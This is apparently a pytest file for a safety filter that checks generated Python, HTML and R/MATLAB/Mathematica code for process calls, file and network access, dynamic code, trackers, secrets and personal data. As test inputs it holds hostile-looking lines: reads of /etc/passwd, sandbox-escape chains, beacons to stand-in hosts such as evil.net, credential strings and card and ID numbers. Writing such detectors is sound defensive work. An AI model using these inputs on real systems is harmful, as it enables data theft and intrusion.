"""Safety: what programs reach for, in each language; secrets and personal data; and what honest programs do."""

from __future__ import annotations

import time

import pytest
from filter_drafts import draft, made, reason

PYTHON = [
    ("import os\nos.system('ls')", "processes"),
    ("import os as o\no.popen('ls')", "processes"),
    ("from os import system as s\ns('ls')", "processes"),
    ("import subprocess", "processes"),
    ("import ctypes", "processes"),
    ("import os\nprint(os.environ['HOME'])", "environment"),
    ("from os import getenv\ngetenv('KEY')", "environment"),
    ("import platform\nplatform.node()", "environment"),
    ("open('/etc/passwd').read()", "files"),
    ("f = open\nf('x')", "files"),
    ("with open('out.txt', 'w') as f: f.write('x')", "files"),
    ("from pathlib import Path\nPath('x').read_text()", "files"),
    ("import shutil", "files"),
    ("import pandas as pd\npd.read_csv('~/secret.csv')", "files"),
    ("import requests", "network"),
    ("import urllib.request as r\nr.urlopen('http://x')", "network"),
    ("from urllib import request", "network"),
    ("import pandas as pd\npd.read_csv('https://host/data.csv')", "network"),
    ("import socket", "network"),
    ("eval('1')", "dynamic_code"),
    ("exec(compile('x=1', '', 'exec'))", "dynamic_code"),
    ("__import__('os')", "dynamic_code"),
    ("import importlib\nimportlib.import_module('os')", "dynamic_code"),
    ("().__class__.__bases__[0].__subclasses__()", "dynamic_code"),
    ("getattr(f, '__globals__')", "dynamic_code"),
    ("import pickle\npickle.loads(b'')", "dynamic_code"),
    ("x = '" + "\\x41" * 300 + "'", "dynamic_code"),
]
HONEST_PYTHON = [
    "import os\nname = os.path.join('a', 'b')",
    "import re\nre.compile('x').match('y')",
    "open, close = [1, 2], [2, 3]\nprint(open[0], close)",
    "def candle(open, close):\n    return open - close",
    "class A:\n    def __init__(self):\n        super().__init__()\n        print(self.__class__.__name__)",
    "import pandas as pd\nframe = pd.read_csv('sales.csv').rename(columns={'a': 'b'})\nframe['a'].rename('total')",
    "with open('sales.csv') as f:\n    f.read()",
    "import matplotlib.pyplot as plt\nplt.savefig('out.png')",
    "import seaborn as sns\nsns.load_dataset('tips')",
    "from urllib.parse import quote",
    "code = 3\nglob = 4\nsignal = [1]\nplatform = 'x'\nprint(code + glob, signal, platform)",
    "from manim import *\nclass S(Scene):\n    def construct(self):\n        self.play(Create(Circle()))",
    "url = 'https://example.org'\nprint('see /etc/ for all of it', url)",
]
PAGES = [
    ("<img src='https://evil.net/a.png'>", "network"),
    ("<img srcset='a.png 1x, //evil.net/b.png 2x'>", "network"),
    ("<form action='http://collect.net/in'></form>", "network"),
    ("<link rel=stylesheet href='//evil.net/a.css'>", "network"),
    ("<style>@import 'https://evil.net/a.css'; p { background: url(//evil.net/x) }</style>", "network"),
    ("<p style='background: url(https://evil.net/x)'>x</p>", "network"),
    ("<script>fetch('/api')</script>", "network"),
    ("<script>new WebSocket('wss://evil.net')</script>", "network"),
    ("<script>navigator.sendBeacon('/x', document.title)</script>", "network"),
    ("<script>img.src = 'https://evil.net/?' + x</script>", "network"),
    ("<button onclick=\"fetch('/x')\">x</button>", "network"),
    ("<meta http-equiv=refresh content='0; url=https://evil.net'>", "network"),
    ("<script>eval(atob('eA=='))</script>", "dynamic_code"),
    ("<script>new Function('return 1')()</script>", "dynamic_code"),
    ("<script>setTimeout('go()', 5)</script>", "dynamic_code"),
    ("<script>x = document.cookie</script>", "environment"),
    ("<script src='https://www.google-analytics.com/ga.js'></script>", "trackers"),
    ("<script>load('//connect.facebook.net/en/sdk.js')</script>", "trackers"),
]
HONEST_PAGES = [
    "<a href='https://anywhere.net'>more</a><link rel=canonical href='https://x.net'>",
    "<script src='https://cdn.jsdelivr.net/npm/chart.js'></script>",
    "<link rel=stylesheet href='https://fonts.googleapis.com/css2?family=Inter'>",
    "<img src='data:image/png;base64,AAAA'><img src='#'><img src='/local.png'>",
    "<script>setTimeout(() => go(), 5); localStorage.x = 1; const evaluate = (x) => x; evaluate(2)</script>",
    "<p>Learn to fetch(data) and eval(x) in our course</p>",
    "<svg xmlns='http://www.w3.org/2000/svg'><use href='#a'/></svg>",
    "<script>fetch('data:text/plain,hi')</script>",
]
SCRIPTS = [
    ("r", "system('ls')", "processes"),
    ("r", "x <- readLines('/etc/passwd')", "files"),
    ("r", "download.file('http://x', 'y')", "network"),
    ("r", "Sys.getenv('HOME')", "environment"),
    ("r", "eval(parse(text = 'x'))", "dynamic_code"),
    ("matlab", "system('ls');", "processes"),
    ("matlab", "f = fopen('x', 'w');", "files"),
    ("matlab", "webread('http://x')", "network"),
    ("matlab", "eval('x = 1');", "dynamic_code"),
    ("mathematica", 'RunProcess[{"ls"}]', "processes"),
    ("mathematica", 'Import["http://x"]', "files"),
    ("mathematica", 'URLFetch["http://x"]', "network"),
    ("mathematica", 'ToExpression["1+1"]', "dynamic_code"),
    ("r", "x <- read.csv('http://x/y.csv')", "files"),
    ("r", "cat('x', file = 'out.txt')", "files"),
    ("r", "f <- get('system2')", "processes"),
    ("r", "lapply(list('ls'), system)", "processes"),
    ("r", "base::system('ls')", "processes"),
    ("r", "library(httr)", "network"),
    ("r", "processx::run('ls')", "processes"),
    ("r", "x <- 'it''s # no comment'; system('ls')", "processes"),
    ("matlab", "!ls -la", "processes"),
    ("matlab", "load secrets.mat", "files"),
    ("matlab", "[s, out] = unix('ls');", "processes"),
    ("matlab", "shell_cmd('ls')", "processes"),
    ("matlab", "cellfun(@system, {'ls'})", "processes"),
    ("matlab", "feval('system', 'ls')", "processes"),
    ("matlab", "delete('x.txt')", "files"),
    ("matlab", "py.os.listdir('.')", "processes"),
    ("mathematica", 'Run @ "ls"', "processes"),
    ("mathematica", 'Run /@ {"ls"}', "processes"),
    ("mathematica", '"ls" // Run', "processes"),
    ("mathematica", 'Get["!ls"]', "files"),
    ("mathematica", "<< secret.m", "files"),
    ("mathematica", 'x >> "out.txt"', "files"),
    ("mathematica", 'Symbol["RunProcess"][{"ls"}]', "processes"),
    ("mathematica", '(* a " *) Run["ls"] (* " *)', "processes"),
]
HONEST_SCRIPTS = [
    ("r", "d <- read.csv(text = 'a,b\\n1,2')\nplot(d$a, file <- 3, xlab = \"don't run system('x')\")"),
    ("r", "legend('top', legend = c('a'))\nsapply(split(x, url), mean)\ncat('done', sep = '')\nget('mtcars')"),
    ("r", "png('plot.png')\nbarplot(c(1, 2))\ndev.off()\nlibrary(graphics)"),
    ("matlab", "load = [1 2 3];\nplot(load(1:2));\nh = plot(1);\ndelete(h);\nif x != 3, end\ncd = 2;"),
    ("matlab", "%{\nsystem('ls')\n%}\nplot(1:3)\nf = @(x) x.^2;\nsave_it = 3;\nprint('-dpng', 'a.png')"),
    ("mathematica", 'Plot[x, {x, 0, 1}, PlotLabel -> "Run, Get and Put"]; a = 3 > 2; runner = 2; Export["a.png", %]'),
    ("r", "# system('ls')\nplot(1:3, main = 'file(x) and url(y)')\ndo.call(rbind, list(1, 2))\nmy.system(3)"),
    ("matlab", "% eval('x')\nplot(x, y');\ntitle('system(1)');\nA = B';\nsurf(peaks(20));"),
    ("mathematica", '(* Run["x"] *) Plot[Sin[x], {x, 0, 1}, PlotLabel -> "Get[x]"]'),
]


def unsafe(code: str, language: str, **more) -> str:
    return reason(made("safety"), draft(code, language=language, **more))


@pytest.mark.parametrize(("code", "check"), PYTHON)
def test_python_is_read_by_its_tree(code, check) -> None:
    assert unsafe(code, "python") == f"unsafe_{check}"


@pytest.mark.parametrize("code", HONEST_PYTHON)
def test_honest_python_passes(code) -> None:
    assert unsafe(code, "python", files={"sales.csv": b"a"}) == ""


@pytest.mark.parametrize(("code", "check"), PAGES)
@pytest.mark.parametrize("language", ["html", "svg"])
def test_pages_are_read_by_their_elements(code, check, language) -> None:
    assert unsafe(code, language) == f"unsafe_{check}"


@pytest.mark.parametrize("code", HONEST_PAGES)
def test_honest_pages_pass(code) -> None:
    assert unsafe(code, "html") == ""


@pytest.mark.parametrize(("language", "code", "check"), SCRIPTS)
def test_other_languages_are_read_by_what_they_call(language, code, check) -> None:
    assert unsafe(code, language) == f"unsafe_{check}"


@pytest.mark.parametrize(("language", "code"), HONEST_SCRIPTS)
def test_honest_scripts_pass(language, code) -> None:
    assert unsafe(code, language) == ""


def test_scripts_may_read_what_the_task_gives() -> None:
    reading = {"r": "read.csv('sales.csv')", "matlab": "csvread('sales.csv')", "mathematica": 'Import["sales.csv"]'}
    for language, code in reading.items():
        assert unsafe(code, language, files={"sales.csv": b"a"}) == ""
        assert unsafe(code, language) == "unsafe_files"


KEY = "AKIA" + "Q7RM2ZK9XWPLD3VN"
SECRETS = [
    f"key = '{KEY}'",
    "-----BEGIN RSA " + "PRIVATE KEY-----",
    "token: gh" + "p_" + "q7Rm2Zk9" * 4 + "Ab12",
    "sk-" + "proj-Q7rm2zk9XwPld3vnTT77",
    "postgres://admin:hunter22@db.host.net/x",
    "api_key = 'q7rm2zk9xwpld3vn88'",
]
PEOPLE = [
    "write to anna.k.petersen@fastmail.dk",
    "call +49 30 901820 77",
    "4539 5787 6362 1486",
    "DE89 3704 0044 0532 0130 00",
    "ssn 219-09-9999",
]
HARMLESS = [
    "api_key = 'YOUR_API_KEY_GOES_HERE_1'",
    "mail hello@example.com or info@yourcompany.io or team@north-studio.org",
    "+1 (555) 010-0199 and +1-555-0100",
    "4111 1111 1111 1111",
    "rows: 1234 5678 9012 3456 and 2021 2022 2023 2024 and 2002 2003 2004 2012",
    "<div class='sk-folding-cube-animation-delay'></div> logo@2x.png three@0.150.0",
    "x = A@B.transpose()",
    "1990-01-01 123-45-6789",
]


@pytest.mark.parametrize("text", SECRETS)
def test_secrets_are_found_and_never_told(text) -> None:
    filter_ = made("safety")
    one = draft("x = 1", f"Use this: {text}")
    assert reason(filter_, one) == "unsafe_secrets"
    with pytest.raises(Exception, match="holds a secret") as caught:
        filter_.check(one)
    assert text[-12:] not in str(caught.value)


@pytest.mark.parametrize("text", PEOPLE)
def test_personal_data_is_found(text) -> None:
    assert unsafe("x = 1", "python", instruction=text) == "unsafe_people"
    assert unsafe(f"<p>{text}</p>", "html") == "unsafe_people"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_made_up_or_no_such_thing_passes(text) -> None:
    assert unsafe(f"<p>{text}</p>", "html", instruction=text) == ""


def test_requests_for_harm_are_found_by_phrases_that_may_be_added_to() -> None:
    assert unsafe("x = 1", "python", instruction="Please make  a PHISHING\npage for a bank") == "unsafe_words"
    assert unsafe("x = 1", "python", instruction="A chart of the gas theory of Avogadro") == ""
    assert reason(made("safety", phrases=["green cheese"]), draft(instruction="Draw a Green Cheese")) == "unsafe_words"


def test_checks_and_exceptions_are_options() -> None:
    code = "import os\nos.getcwd()"
    assert unsafe(code, "python") == "unsafe_environment"
    assert reason(made("safety", allow=["os.getcwd"]), draft(code)) == ""
    assert reason(made("safety", checks=["network"]), draft(code)) == ""
    page = draft("<img src='https://pics.net/a.png'>", language="html")
    assert reason(made("safety", hosts=["pics.net"]), page) == ""


def test_messages_say_what_and_where() -> None:
    with pytest.raises(Exception, match=r"^It starts other programs: os\.system, line 3\.$"):
        made("safety").check(draft("import os\n\nos.system('x')"))


def test_the_time_grows_no_faster_than_the_text() -> None:
    filter_ = made("safety", checks=["secrets", "people", "words"])

    def seconds(text: str) -> float:
        best = 1e9
        for _ in range(3):
            began = time.process_time()
            reason(filter_, draft("x = 1", text))
            best = min(best, time.process_time() - began)
        return best

    for unit in ("a.b-c@", "+49 30 ", "4539 5787 ", "api_key='x ", "eyJ.", "DE89 3704 "):
        assert seconds(unit * 40_000) < 12 * seconds(unit * 10_000) + 0.05


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("r", "system(" * 50_000), ("r", "get(" + "x," * 50_000), ("r", "'" + "\\'" * 50_000 + "\\"),
        ("matlab", "'" * 100_001), ("matlab", "%{\n" * 50_000), ("matlab", "load = 1\nload(1)\n" * 20_000),
        ("mathematica", "(*" * 50_000), ("mathematica", '"' * 100_001),
    ],
)  # fmt: skip
def test_hostile_scripts_take_time_in_proportion(language, code) -> None:
    began = time.process_time()
    unsafe(code, language)
    reason(made("syntax"), draft(code, language=language))
    assert time.process_time() - began < 5
